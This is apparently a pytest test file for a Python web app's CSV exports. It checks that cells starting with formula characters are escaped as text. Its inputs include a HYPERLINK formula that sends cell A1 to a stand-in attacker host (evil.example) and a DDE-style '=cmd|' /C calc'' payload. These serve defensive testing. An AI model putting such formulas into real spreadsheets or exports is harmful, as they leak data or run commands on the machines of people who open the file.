"""CSV exports: a cell typed as a formula stays text in the spreadsheet; one charset."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from matchmaker.queries.dashboard import Table, to_csv
from models import Project
from scoring.batch import write_csv
from scoring.spreadsheet import safe_cell

from .web import login

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'


@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK), ("+81 6 1234", "'+81 6 1234"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝１＋１", "'＝１＋１"),
    ("見守り", "見守り"), ("a=b", "a=b"), ("", ""), (3, 3), (-2, -2), (0.5, 0.5),
])
def test_safe_cell(value, expected) -> None:
    assert safe_cell(value) == expected


def test_dashboard_csv_keeps_formulas_as_text_and_numbers_as_numbers() -> None:
    table = Table("t", "t", ["=header"], [[HYPERLINK, 3, "-"]])

    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))

    assert rows == [["'=header"], ["'" + HYPERLINK, "3", "'-"]]


def test_rollouts_csv_exports_a_formula_title_as_text(demo_app) -> None:
    session = demo_app.extensions["sqlalchemy_write_sessionmaker"]()
    origin = next(p for p in session.scalars(select(Project)) if p.rollouts)
    origin.title = HYPERLINK
    session.commit()
    session.close()
    coordinator = login(demo_app.test_client(), "admin")

    response = coordinator.get("/dashboard/rollouts.csv")

    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert ["'" + HYPERLINK] in [row[:1] for row in rows]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_batch_csv_keeps_formulas_as_text() -> None:
    out = io.StringIO()

    write_csv([{"challenge": "=cmd|' /C calc'!A0", "matches": [{"technology": "@t1", "score": 0.5, "reasons": []}]}],
              out)

    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    assert rows[1][:3] == ["'=cmd|' /C calc'!A0", "1", "'@t1"]
